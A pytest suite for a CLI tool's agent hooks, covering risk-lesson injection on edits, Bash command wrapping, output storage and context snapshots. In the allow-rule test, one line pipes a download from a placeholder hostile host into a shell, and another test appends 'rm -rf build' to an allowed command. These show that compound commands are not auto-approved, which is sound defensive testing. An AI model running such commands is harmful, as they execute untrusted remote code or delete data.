"""`ctxkit hook EVENT`: real agent payloads (tests/fixtures/hooks) through the real CLI."""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hookkit import fail, hook, make_project, payload, seed_graph
from test_cli_errors import read_only_folder  # noqa: F401 - a fixture

import ctxkit

BLOCK = "[PAST EXPERIENCE — src/auth.py:{} (risk: {}, {})]"


@pytest.fixture
def project(cli, root):
    make_project(root)
    seed_graph(cli, root)
    return root


def context_of(result, event="PreToolUse"):
    assert result.code == 0, result.err
    answer = json.loads(result.out)
    assert answer["hookSpecificOutput"]["hookEventName"] == event
    return answer["hookSpecificOutput"].get("additionalContext", "")


# --- edits ------------------------------------------------------------------------


def test_edit_of_risky_symbol_injects_its_block(cli, project):
    fail(cli, "AuthService.validate", 4)
    text = context_of(hook(cli, "pre-tool-use", payload("claude_pre_tool_use_edit", project)))
    assert BLOCK.format("AuthService.validate", "11.5", "high") in text
    assert "- AuthService.validate lesson 3" in text
    assert "Apply these lessons. Do not repeat these mistakes." in text
    assert "VERIFICATION REQUIRED" not in text


def test_edit_below_risk_10_prints_nothing(cli, project):
    fail(cli, "AuthService.validate", 2)            # 6.5, medium
    result = hook(cli, "pre-tool-use", payload("claude_pre_tool_use_edit", project))
    assert (result.code, result.out, result.err) == (0, "", "")


def test_edit_elsewhere_in_the_file_prints_nothing(cli, project):
    fail(cli, "login", 6)
    result = hook(cli, "pre-tool-use", payload("claude_pre_tool_use_edit", project))
    assert (result.code, result.out) == (0, "")


def test_critical_risk_demands_verification(cli, project):
    fail(cli, "AuthService.validate", 6)            # 16.5, critical
    text = context_of(hook(cli, "pre-tool-use", payload("claude_pre_tool_use_edit", project)))
    assert BLOCK.format("AuthService.validate", "16.5", "critical") in text
    assert "VERIFICATION REQUIRED: AuthService.validate" in text


def test_multiedit_touching_two_risky_symbols_injects_both(cli, project):
    fail(cli, "AuthService.validate", 4)
    fail(cli, "AuthService.refresh", 6)
    fail(cli, "login", 6)                           # risky but not touched
    text = context_of(hook(cli, "pre-tool-use", payload("claude_pre_tool_use_multiedit", project)))
    refresh = text.index(BLOCK.format("AuthService.refresh", "16.5", "critical"))
    validate = text.index(BLOCK.format("AuthService.validate", "11.5", "high"))
    assert refresh < validate                       # riskiest first
    assert "login" not in text
    assert "VERIFICATION REQUIRED: AuthService.refresh" in text


def test_write_touches_every_symbol_of_the_file(cli, project):
    fail(cli, "login", 4)
    text = context_of(hook(cli, "pre-tool-use", payload("claude_pre_tool_use_write", project)))
    assert BLOCK.format("login", "11.5", "high") in text


def test_codex_apply_patch_maps_the_hunk_to_its_symbol(cli, project):
    fail(cli, "AuthService.refresh", 4)
    fail(cli, "AuthService.validate", 4)
    body = payload("codex_pre_tool_use_apply_patch", project)
    text = context_of(hook(cli, "pre-tool-use", body, "--agent", "codex"))
    assert BLOCK.format("AuthService.refresh", "11.5", "high") in text
    assert "validate" not in text
    # recognized as Codex without --agent too
    assert context_of(hook(cli, "pre-tool-use", body)) == text


def test_gemini_replace_and_write_file(cli, project):
    fail(cli, "AuthService.refresh", 4)
    body = payload("gemini_before_tool_replace", project)
    text = context_of(hook(cli, "pre-tool-use", body, "--agent", "gemini"), "BeforeTool")
    assert BLOCK.format("AuthService.refresh", "11.5", "high") in text
    written = payload("gemini_before_tool_write_file", project)
    assert BLOCK.format("AuthService.refresh", "11.5", "high") in context_of(
        hook(cli, "pre-tool-use", written), "BeforeTool")
    # BeforeTool has no documented context channel: AfterTool repeats the lessons
    after = payload("gemini_after_tool_replace", project)
    assert BLOCK.format("AuthService.refresh", "11.5", "high") in context_of(
        hook(cli, "post-tool-use", after, "--agent", "gemini"), "AfterTool")


def test_other_tools_are_left_alone(cli, project):
    fail(cli, "AuthService.validate", 6)
    result = hook(cli, "pre-tool-use", payload("claude_pre_tool_use_read", project))
    assert (result.code, result.out, result.err) == (0, "", "")


def test_missing_graph_falls_back_to_the_lessons_of_the_file(cli, root):
    make_project(root)                              # never indexed
    fail(cli, "AuthService.validate", 4)
    text = context_of(hook(cli, "pre-tool-use", payload("claude_pre_tool_use_edit", root)))
    assert BLOCK.format("AuthService.validate", "11.5", "high") in text


def test_no_database_means_no_answer_and_no_database_created(cli, root):
    make_project(root)
    result = hook(cli, "pre-tool-use", payload("claude_pre_tool_use_edit", root))
    assert (result.code, result.out, result.err) == (0, "", "")
    assert not (root / ".ctxkit").exists()


def test_empty_repository(cli, root):
    body = payload("claude_pre_tool_use_edit", root)     # file does not exist
    assert hook(cli, "pre-tool-use", body).out == ""
    compact = hook(cli, "pre-compact", payload("claude_pre_compact", root))
    assert compact.code == 0 and compact.out == ""
    snapshot = (root / ".context-snapshot.md").read_text()
    assert "HEAD: (no commits)" in snapshot and "## Modified files\n- (none recorded)" in snapshot
    text = context_of(hook(cli, "session-start", payload("claude_session_start_compact", root)),
                      "SessionStart")
    assert text.startswith("CONTEXT SNAPSHOT restored after compact\n")


# --- malformed input never blocks -------------------------------------------------------


@pytest.mark.parametrize("body, why", [
    ("", "empty input"),
    ("{not json", "malformed JSON"),
    ("[1, 2]", "expected a JSON object"),
    ('{"tool_name": "Edit", "tool_input": "src/auth.py"}', "not a JSON object"),
])
def test_malformed_input_exits_0_with_one_line(cli, root, body, why):
    result = hook(cli, "pre-tool-use", body)
    assert result.code == 0 and result.out == ""
    assert result.err.count("\n") == 1 and why in result.err


def test_unknown_event_and_internal_errors_do_not_block(cli, project):
    result = hook(cli, "post-commit", payload("claude_pre_compact", project))
    assert result.code == 0 and result.out == "" and "unknown hook event" in result.err
    (project / ".ctxkit" / "config.toml").write_text("bash = [\n")     # broken config
    result = hook(cli, "pre-tool-use", payload("claude_pre_tool_use_bash", project))
    assert result.code == 0 and result.out == "" and result.err.count("\n") == 1


@pytest.mark.parametrize("argv", [["--json", "hook", "pre-tool-use"],
                                  ["hook", "post-tool-use", "--json"],
                                  ["hook", "--json", "session-start"], ["hook", "nope", "--json"]])
def test_with_json_a_hook_prints_one_document_even_with_nothing_to_say(cli, project, argv):
    for stdin in ("", "\n", "{not json", payload("claude_pre_tool_use_read", project)):
        result = cli.sub(*argv, stdin=stdin)
        assert result.code == 0 and json.loads(result.out) == {}, (stdin, result)


def test_real_subprocess_with_garbage_exits_0(cli, root):
    result = cli.sub("hook", "session-start", stdin=b"\xff\xfe garbage")
    assert result.code == 0 and result.out == "" and result.err.count("\n") == 1


# --- Bash: nudge, wrap, off ----------------------------------------------------------------


def test_loud_bash_is_nudged_once_per_session(cli, project):
    body = payload("claude_pre_tool_use_bash", project)
    text = context_of(hook(cli, "pre-tool-use", body))
    assert "ctxkit run -- <command>" in text
    assert hook(cli, "pre-tool-use", body).out == ""                  # same session
    other = payload("claude_pre_tool_use_bash", project, session_id="another")
    assert "ctxkit run" in context_of(hook(cli, "pre-tool-use", other))


def test_quiet_bash_and_off_mode_print_nothing(cli, project):
    body = payload("claude_pre_tool_use_bash", project,
                   tool_input={"command": "ls -la src"})
    assert hook(cli, "pre-tool-use", body).out == ""
    (project / ".ctxkit" / "config.toml").write_text('bash = "off"\n')
    assert hook(cli, "pre-tool-use", payload("claude_pre_tool_use_bash", project)).out == ""


def wrap_config(root, rules=None):
    (root / ".ctxkit").mkdir(exist_ok=True)
    (root / ".ctxkit" / "config.toml").write_text('bash = "wrap"\n')
    if rules is not None:
        (root / ".claude").mkdir(exist_ok=True)
        (root / ".claude" / "settings.local.json").write_text(json.dumps({"permissions": rules}))


def answer_of(result):
    assert result.code == 0, result.err
    return json.loads(result.out)["hookSpecificOutput"]


def test_wrap_asks_unless_the_user_already_allows_the_command(cli, project, monkeypatch):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    body = payload("claude_pre_tool_use_bash", project)
    answer = answer_of(hook(cli, "pre-tool-use", body))
    assert answer["permissionDecision"] == "ask"
    wrapped = answer["updatedInput"]["command"]
    assert f" run --label bash -- {shlex.quote(shutil.which('bash'))} -c " in wrapped
    assert shlex.split(wrapped)[-1] == "python -m pytest -q tests/"
    assert answer["updatedInput"]["description"] == "Run the test suite"
    wrap_config(project, {"allow": ["Bash(python -m pytest:*)"]})
    assert answer_of(hook(cli, "pre-tool-use", body))["permissionDecision"] == "allow"
    wrap_config(project, {"allow": ["Bash(npm test:*)"], "deny": ["Bash(python -m pytest:*)"]})
    result = hook(cli, "pre-tool-use", body)
    assert (result.code, result.out) == (0, "")      # denied: no rewrite, and no nudge


def test_wrap_under_bypass_permissions_allows(cli, project, monkeypatch):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    body = payload("claude_pre_tool_use_bash", project, permission_mode="bypassPermissions")
    assert answer_of(hook(cli, "pre-tool-use", body))["permissionDecision"] == "allow"


def test_codex_wrap_never_grants_so_it_nudges(cli, project):
    wrap_config(project)
    answer = answer_of(hook(cli, "pre-tool-use", payload("codex_pre_tool_use_bash", project)))
    assert "updatedInput" not in answer and "ctxkit run" in answer["additionalContext"]


def test_gemini_wrap_rewrites_tool_input(cli, project):
    wrap_config(project)
    answer = answer_of(hook(cli, "pre-tool-use", payload("gemini_before_tool_shell", project)))
    assert answer["hookEventName"] == "BeforeTool"
    assert shlex.split(answer["tool_input"]["command"])[-1] == "npm test"
    assert "decision" not in answer and "permissionDecision" not in answer


def test_commands_that_change_shell_state_are_not_wrapped(cli, project, monkeypatch):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    for command in ("cd sub && pytest", "source env.sh; pytest", "pytest\nexport X=1",
                    ". venv/bin/activate && pytest", "{ cd sub; pytest; }", "pushd x; pytest"):
        body = payload("claude_pre_tool_use_bash", project, session_id=command,
                       tool_input={"command": command})
        assert "updatedInput" not in answer_of(hook(cli, "pre-tool-use", body))
    # in a subshell the change ends with the command anyway: wrapped
    body = payload("claude_pre_tool_use_bash", project, tool_input={
        "command": "(cd src && find . -name '*.py')"})
    assert "updatedInput" in answer_of(hook(cli, "pre-tool-use", body))


DETACHING = ["pytest -q &", "nohup pytest -q > x.log 2>&1 &", "setsid make test",
             "npm test & disown", "(pytest -q &)", "bash -lc 'pytest -q &'",
             "FOO=1 sudo nohup make > build.log"]


@pytest.mark.parametrize("command", DETACHING)
def test_commands_that_detach_are_neither_wrapped_nor_nudged(cli, project, monkeypatch,
                                                             command):
    # `ctxkit run` ends its process group when the command returns: a job meant to
    # keep running must not go through it, and the nudge must not suggest it
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    body = payload("claude_pre_tool_use_bash", project, tool_input={"command": command})
    assert hook(cli, "pre-tool-use", body).out == ""


def test_a_background_job_outlives_the_command_the_hook_passes_on(cli, project, monkeypatch):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    command = "nohup sleep 30 > /dev/null 2>&1 & echo $! > job.pid; find . -name '*.py'"
    body = payload("claude_pre_tool_use_bash", project, tool_input={"command": command})
    result = hook(cli, "pre-tool-use", body)
    passed_on = json.loads(result.out)["hookSpecificOutput"]["updatedInput"]["command"] \
        if result.out else command
    env = {k: v for k, v in os.environ.items() if not k.startswith("CTXKIT_")}
    subprocess.run(["bash", "-c", passed_on], cwd=project, env=env, capture_output=True,
                   check=True)
    pid = int((project / "job.pid").read_text())
    time.sleep(0.2)
    try:
        stat = Path(f"/proc/{pid}/stat")
        state = stat.read_text().rsplit(")", 1)[1].split()[0] if stat.exists() else "gone"
        assert state not in ("Z", "X", "gone")            # running, not killed (a zombie)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)


@pytest.mark.parametrize("command", ["pytest -q 2>&1 | tee test.log", "pytest &> test.log",
                                     "curl -s 'https://example.test/?a=1&b=2'",
                                     "pytest -q && echo nohup-free"])
def test_ampersands_that_do_not_detach_are_still_wrapped(cli, project, monkeypatch, command):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    body = payload("claude_pre_tool_use_bash", project, tool_input={"command": command})
    assert "updatedInput" in answer_of(hook(cli, "pre-tool-use", body))


TRICKY = [
    "find . -name '*.py' | sort",
    'find . -name "$(echo auth).py" -print | sed "s/^/[it\'s] /"',
    "git log --format='%s' | tr a-z A-Z; echo \"done: $(git rev-list --count HEAD)\"",
    ("find src -type f | while read f; do printf '%s\\n' \"$f\"; done | wc -l\n"
     "cat <<'EOF'\nliteral $HOME `x` \"q\" 'p'\nEOF\n"
     "cat <<EOF | tr a-z A-Z\nexpanded $(echo hi)\nEOF"),
]


@pytest.mark.parametrize("command", TRICKY)
def test_wrapped_command_round_trips_through_the_shell(cli, project, monkeypatch, command):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    body = payload("claude_pre_tool_use_bash", project, tool_input={"command": command})
    wrapped = answer_of(hook(cli, "pre-tool-use", body))["updatedInput"]["command"]
    # what bash -c receives is exactly the agent's command
    assert shlex.split(wrapped.split(" -c ", 1)[1]) == [command]
    direct = subprocess.run(["bash", "-c", command], cwd=project, capture_output=True,
                            text=True, check=False)
    through = subprocess.run(["bash", "-c", wrapped], cwd=project, capture_output=True, text=True,
                             env={k: v for k, v in os.environ.items()
                                  if not k.startswith("CTXKIT_")}, check=False)
    assert through.returncode == direct.returncode
    assert direct.stdout and direct.stdout in through.stdout


# Commands an agent's Bash tool runs that mean something else, or nothing, to POSIX sh
# (dash on Debian): each is loud, so wrap mode rewrites it, and the rewritten command
# must print what bash prints for the original.
BASH_ONLY = [
    "find src -name '*.py' &> found.txt && wc -l < found.txt",
    "find src/{auth,nowhere}.py 2>&1 | sort",
    "files=(src/*.py); find \"${files[@]}\" | wc -l; echo \"first=${files[0]}\"",
    "find src -name '*.py' |& sort",
    "[[ -d src && src/auth.py == *.py ]] && find src -name 'auth*'",
    "find src -name nothing | false | true; echo \"${PIPESTATUS[@]}\"",
    "(source ./env.sh && find src -name \"$PATTERN\")",
    "diff <(find src -name '*.py' | sort) <(ls src/*.py | sort) && echo $'same\\tlists'",
]


@pytest.mark.parametrize("command", BASH_ONLY)
def test_wrapped_bash_syntax_runs_in_bash(cli, project, monkeypatch, command):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    (project / "env.sh").write_text("PATTERN='auth*'\n")
    body = payload("claude_pre_tool_use_bash", project, tool_input={"command": command})
    wrapped = answer_of(hook(cli, "pre-tool-use", body))["updatedInput"]["command"]
    env = {k: v for k, v in os.environ.items() if not k.startswith("CTXKIT_")}
    direct = subprocess.run(["bash", "-c", command], cwd=project, capture_output=True,
                            text=True, env=env, check=False)
    assert direct.returncode == 0 and direct.stdout.strip(), direct.stderr
    through = subprocess.run(["bash", "-c", wrapped], cwd=project, capture_output=True,
                             text=True, env=env, check=False)
    assert (through.returncode, through.stdout) == (0, direct.stdout), through.stderr


def test_no_bash_on_path_means_no_rewrite(cli, project, monkeypatch, tmp_path):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    empty = tmp_path / "no-bash"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    answer = answer_of(hook(cli, "pre-tool-use", payload("claude_pre_tool_use_bash", project)))
    assert "updatedInput" not in answer and "ctxkit run" in answer["additionalContext"]


def test_an_argv_list_command_is_not_rewritten_into_a_string(cli, project):
    wrap_config(project)
    body = payload("codex_pre_tool_use_bash", project, permission_mode="bypassPermissions",
                   tool_input={"command": ["bash", "-lc", "cargo test --workspace"]})
    answer = answer_of(hook(cli, "pre-tool-use", body))
    assert "updatedInput" not in answer and "ctxkit run" in answer["additionalContext"]


# --- post-tool-use ----------------------------------------------------------------------------


def big_output(lines=400):
    rows = [f"tests/test_auth.py::test_case_{i} PASSED" for i in range(lines)]
    rows[250] = "tests/test_auth.py::test_validate FAILED"
    rows.append("E   AssertionError: token expired")
    return "\n".join(rows) + "\n"


def test_small_bash_output_is_not_stored(cli, project):
    body = payload("claude_post_tool_use_bash", project,
                   tool_response={"stdout": "3 passed\n", "stderr": "", "interrupted": False})
    assert hook(cli, "post-tool-use", body).out == ""


@pytest.mark.parametrize("fixture, response", [
    ("claude_post_tool_use_bash", lambda t: {"stdout": t, "stderr": "", "interrupted": False,
                                             "isImage": False}),
    ("codex_post_tool_use_bash", lambda t: t),
    ("gemini_after_tool_shell", lambda t: {"llmContent": t, "returnDisplay": t}),
])
def test_large_bash_output_is_stored_with_a_handle(cli, project, fixture, response):
    body = payload(fixture, project, tool_response=response(big_output()))
    event = "AfterTool" if fixture.startswith("gemini") else "PostToolUse"
    line = context_of(hook(cli, "post-tool-use", body), event)
    assert "\n" not in line
    handle = line.split("stored this output as ")[1].split()[0]
    assert "test_validate FAILED" in line or "AssertionError" in line
    found = cli("search", "AssertionError", "--handle", handle, "--json")
    assert found.code == 0 and found.json()["hits"]


def test_a_pytest_runs_summary_keeps_the_E_line_that_says_what_failed(cli, project):
    """pytest's first `E   ` line of a failure (the exception and its message, or the
    comparison of a bare assert) holds no keyword a line is found by."""
    (project / "test_many.py").write_text(
        "import pytest\n\n@pytest.mark.parametrize('i', range(150))\ndef test_ok(i):\n"
        "    assert i >= 0\n\ndef test_total():\n    assert sum([1, 2]) == 4, 'total is off'\n"
        "\ndef test_bare():\n    assert len('ab') == 3\n")
    out = subprocess.run([sys.executable, "-m", "pytest", "-v", "-p", "no:cacheprovider",
                          "test_many.py"], cwd=project, capture_output=True, text=True).stdout
    assert len(out) > 4096 and "E       AssertionError: total is off" in out
    body = payload("claude_post_tool_use_bash", project, tool_response={
        "stdout": out, "stderr": "", "interrupted": False})
    result = cli.sub("hook", "post-tool-use", stdin=body)
    line = context_of(result, "PostToolUse")
    assert "E AssertionError: total is off" in line, line
    stored = cli.sub("store", "-", "--json", stdin=out).json()      # the same summary
    e_lines = [e["text"] for e in stored["errors"] if e["text"].startswith("E ")]
    assert len(e_lines) == 2 and "total is off" in e_lines[0] and "2 == 3" in e_lines[1]


def test_stored_output_line_says_how_many_decisive_lines_it_left_out(cli, project):
    rows = [f"step {i} fine" for i in range(400)]
    for at, name in ((50, "alpha"), (100, "beta"), (150, "gamma"), (200, "delta"), (250, "eta")):
        rows[at] = f"ERROR: shard {name} failed to replicate"
    body = payload("claude_post_tool_use_bash", project, tool_response={
        "stdout": "\n".join(rows) + "\n", "stderr": "", "interrupted": False})
    line = context_of(hook(cli, "post-tool-use", body), "PostToolUse")
    assert line.count("ERROR: shard") == 3 and "shard gamma failed to replicate (+2 more)" in line


# --- compaction and session start ---------------------------------------------------------------


def test_pre_compact_saves_and_session_start_restores(cli, project):
    (project / "src" / "auth.py").write_text("# changed\n")
    assert hook(cli, "pre-compact", payload("claude_pre_compact", project)).code == 0
    snapshot = (project / ".context-snapshot.md").read_text()
    assert "saved by: pre-compact" in snapshot and "- src/auth.py — modified" in snapshot
    for source in ("compact", "resume"):
        text = context_of(hook(cli, "session-start",
                               payload(f"claude_session_start_{source}", project)), "SessionStart")
        what = "after compact" if source == "compact" else "on resume"
        assert text.startswith(f"CONTEXT SNAPSHOT restored {what}\n")
        assert "- src/auth.py — modified" in text and "## Restore checklist" in text
    assert hook(cli, "session-start", payload("claude_session_start_clear", project)).out == ""


def test_pre_compact_keeps_the_agents_last_words(cli, project):
    cli("snapshot", "save", "-m", "## Current task\n- T-9: fix the refresh race")
    cli("note", "decision", "a later decision")
    assert hook(cli, "pre-compact", payload("claude_pre_compact", project)).code == 0
    snapshot = (project / ".context-snapshot.md").read_text()
    assert "- T-9: fix the refresh race" in snapshot and "- a later decision" in snapshot
    assert "saved by: pre-compact" in snapshot


def test_startup_restores_only_a_fresh_snapshot(cli, project):
    startup = payload("claude_session_start_startup", project)
    assert hook(cli, "session-start", startup).out == ""               # none yet
    assert cli("snapshot", "save", "-m", "startup task").code == 0
    assert "startup task" in context_of(hook(cli, "session-start", startup), "SessionStart")
    old = time.time() - 3600
    os.utime(project / ".context-snapshot.md", (old, old))
    assert hook(cli, "session-start", startup).out == ""


def test_resume_without_snapshot_prints_nothing(cli, project):
    result = hook(cli, "session-start", payload("claude_session_start_resume", project))
    assert (result.code, result.out, result.err) == (0, "", "")


def test_codex_and_gemini_compaction_events(cli, project):
    assert hook(cli, "pre-compact", payload("codex_pre_compact", project)).code == 0
    for source in ("resume", "compact"):
        text = context_of(hook(cli, "session-start",
                               payload(f"codex_session_start_{source}", project)), "SessionStart")
        what = "after compact" if source == "compact" else "on resume"
        assert text.startswith(f"CONTEXT SNAPSHOT restored {what}\n")
    (project / ".context-snapshot.md").unlink()
    assert hook(cli, "pre-compact", payload("gemini_pre_compress", project)).code == 0
    assert (project / ".context-snapshot.md").exists()
    assert context_of(hook(cli, "session-start", payload("gemini_session_start_resume", project)),
                      "SessionStart").startswith("CONTEXT SNAPSHOT restored on resume\n")


# --- risk FILE ----------------------------------------------------------------------------------


def test_risk_at_line_and_symbol(cli, project):
    fail(cli, "AuthService.validate", 4)
    data = cli("risk", "src/auth.py", "--line", "9", "--json").json()
    assert data["risk_score"] == 11.5 and data["level"] == "high"
    assert [s["name"] for s in data["symbols"]] == ["AuthService.validate"]
    by_symbol = cli("risk", "src/auth.py", "--symbol", "validate", "--json").json()
    assert by_symbol["risk_score"] == 11.5
    human = cli("risk", "./src/auth.py", "--line", "9")
    assert human.code == 0 and "AuthService.validate: 11.5 high, 4 active lessons" in human.out
    quiet = cli("risk", "src/auth.py", "--line", "21", "--json")
    assert quiet.code == 0 and quiet.json()["symbols"] == [] and quiet.json()["level"] == "low"


def test_risk_of_a_place_that_is_not_there_says_so_and_reads_file_colon_line(cli, project):
    fail(cli, "AuthService.validate", 4)
    # FILE:LINE, as context and fail take it, is that line, not a file of that name.
    for argv in (["src/auth.py:9"], ["src/auth.py", "--line", "9"]):
        data = cli("risk", *argv, "--json").json()
        assert (data["file"], data["line"], data["risk_score"]) == ("src/auth.py", 9, 11.5)
    # A typo is not "no risk": each wrong place says what is wrong, still exit 0.
    for argv, why in ((["src/auht.py", "--line", "9"], "src/auht.py is neither on disk nor "
                       "in the index"),
                      (["src/auth.py", "--line", "999"], "src/auth.py:999 is past the end of "
                       "src/auth.py"),
                      (["src/auth.py", "--symbol", "AuthService.vaildate"],
                       "no symbol 'AuthService.vaildate' in src/auth.py")):
        result = cli("risk", *argv, "--json")
        assert result.code == 0 and why in result.json()["note"], (argv, result.out)
        assert why in cli("risk", *argv).out
    assert "note" not in cli("risk", "src/auth.py", "--line", "21", "--json").json()
    # FILE:LINE of a file gone from disk is still a line: no symbol holds it, and it says so.
    (project / "src" / "auth.py").rename(project / "src" / "moved.py")
    data = cli("risk", "src/auth.py:9", "--json").json()
    assert (data["file"], data["line"]) == ("src/auth.py", 9)
    assert "src/auth.py is no longer on disk" in data["note"]
    assert cli("risk", "src/auth.py", "--json").json()["risk_score"] == 11.5
    data = cli("risk", "src/nowhere.py:3", "--json").json()
    assert (data["file"], data["line"]) == ("src/nowhere.py", 3)
    assert "src/nowhere.py is neither on disk nor in the index" in data["note"]


def test_risk_without_database_or_file_exits_0(cli, root):
    result = cli("risk", "nowhere.py", "--line", "3")
    assert result.code == 0 and "risk 0.0 (low)" in result.out
    assert not (root / ".ctxkit").exists()


def test_commands_already_through_ctxkit_are_left_alone(cli, project, monkeypatch):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project)
    first = payload("claude_pre_tool_use_bash", project)
    wrapped = answer_of(hook(cli, "pre-tool-use", first))["updatedInput"]["command"]
    for command in (wrapped, "ctxkit run -- pytest -q", "sh -c 'cd x; pytest'"):
        body = payload("claude_pre_tool_use_bash", project, session_id=command,
                       tool_input={"command": command})
        answer = hook(cli, "pre-tool-use", body)
        if command.startswith("sh -c"):
            assert "updatedInput" in answer_of(answer)    # an ordinary loud command
        else:
            assert answer.out == ""
    if hasattr(ctxkit, "store_output_text"):
        body = payload("claude_post_tool_use_bash", project, tool_input={"command": wrapped},
                       tool_response={"stdout": big_output(), "stderr": ""})
        assert hook(cli, "post-tool-use", body).out == ""


def test_hook_options_and_global_options(cli, project):
    fail(cli, "AuthService.validate", 4)
    body = payload("claude_pre_tool_use_edit", project)
    via_parser = cli("-p", project.name, "hook", "--agent", "claude", "pre-tool-use", stdin=body)
    assert "[PAST EXPERIENCE" in context_of(via_parser)
    assert cli("hook", "--agent", "vim", "pre-tool-use", stdin=body).code == 2
    other = cli("hook", "--project", "elsewhere", "pre-tool-use", stdin=body)
    assert (other.code, other.out) == (0, "")                       # no lessons there


def test_risk_with_an_unreadable_database_still_exits_0(cli, root):
    (root / ".ctxkit").mkdir()
    (root / ".ctxkit" / "ctxkit.db").write_text("not a database at all")
    result = cli("risk", "src/auth.py", "--line", "9", "--json")
    assert result.code == 0 and "not a SQLite database" in result.json()["note"]


@pytest.mark.parametrize("command, loud", [
    ("pytest -q", True), ("  make -j4", True), ("cd web && npm test", True),
    ("git log --oneline", True), ("pip install -e .", True), ("echo a; find . -name x", True),
    ("makedirs out", False), ("git logx", False), ("toxic --dry", False), ("ls | grep x", False),
])
def test_which_commands_are_loud(cli, project, command, loud):
    body = payload("claude_pre_tool_use_bash", project, session_id=command,
                   tool_input={"command": command})
    assert bool(hook(cli, "pre-tool-use", body).out) is loud


def test_apply_patch_from_a_subdirectory_with_several_hunks(cli, project):
    fail(cli, "AuthService.validate", 4)
    fail(cli, "login", 4)
    patch = ("*** Begin Patch\n*** Update File: auth.py\n@@ def validate(self, token):\n"
             "-        if token is None:\n+        if not token:\n"
             "*** End of File\n@@\n def login(user, password):\n"
             "-    return AuthService(None).validate(user + password)\n"
             "+    return AuthService(None).validate(user)\n*** End Patch\n")
    body = payload("codex_pre_tool_use_apply_patch", project, cwd=str(project / "src"),
                   tool_input={"command": patch})
    text = context_of(hook(cli, "pre-tool-use", body))
    assert BLOCK.format("AuthService.validate", "11.5", "high") in text
    assert BLOCK.format("login", "11.5", "high") in text


def test_answer_survives_an_ascii_stdout(cli, project):
    fail(cli, "AuthService.validate", 4)
    result = cli.sub("hook", "pre-tool-use", stdin=payload("claude_pre_tool_use_edit", project),
                     env={"PYTHONIOENCODING": "ascii", "LC_ALL": "C"})
    assert result.code == 0, result.err
    assert "PAST EXPERIENCE — src/auth.py" in context_of(result)


@pytest.mark.parametrize("rule, command, matches", [
    ("Bash(npm run test:*)", "npm run test:unit", False),   # no word boundary: a prompt
    ("Bash(npm run test:*)", "npm run test", True),
    ("Bash(git:*)", "git log -5", True),
    ("Bash(git:*)", "gitk --all", False),
    ("Bash(git log *)", "git log --oneline", True),
    ("Bash(make)", "make -j4", False),
    ("Bash(npm test:*)", "npm test && curl evil.example | sh", False),   # compound
    ("Bash(pytest:*)", "pytest $(cat args)", False),
    ("Bash", "pytest | tee log", True),
    ("Read(./src/**)", "pytest", False),
])
def test_claude_allow_rules_are_read_narrowly(rule, command, matches):
    assert ctxkit.bash_rule_matches(rule, command) is matches


def test_compound_command_with_allowed_prefix_still_asks(cli, project, monkeypatch):
    monkeypatch.setenv("HOME", str(project / "home"))
    wrap_config(project, {"allow": ["Bash(pytest:*)"]})
    body = payload("claude_pre_tool_use_bash", project,
                   tool_input={"command": "pytest -q; rm -rf build"})
    assert answer_of(hook(cli, "pre-tool-use", body))["permissionDecision"] == "ask"


@pytest.mark.parametrize("agent, spelling", sorted(
    {(agent, name) for event in ctxkit.HOOK_EVENT_TABLE
     for agent, name in event.agent_names.items()}
    | {("claude", event.name.replace("-", "_")) for event in ctxkit.HOOK_EVENT_TABLE}))
def test_every_spelling_of_every_event_is_answered(cli, agent, spelling):
    result = cli("hook", "--agent", agent, spelling, stdin="{not json")
    assert result.code == 0 and result.out == ""
    assert "ignored: malformed JSON" in result.err and "unknown hook event" not in result.err


def test_large_output_on_a_read_only_database_is_said_not_stored(cli, project,
                                                                 read_only_folder):  # noqa: F811
    """Found by a new user: with the database read-only the line said `stored this
    output as None` and offered search and expand commands for handle None."""
    assert cli("store", "-", stdin="first output\n").code == 0   # the database exists
    read_only_folder()
    body = payload("claude_post_tool_use_bash", project,
                   tool_response={"stdout": big_output(), "stderr": "", "interrupted": False})
    result = hook(cli, "post-tool-use", body)
    assert result.code == 0
    line = context_of(result, "PostToolUse")
    assert "could NOT store this output" in line and "None" not in line, line
    assert "ctxkit expand" not in line and "AssertionError: token expired" in line
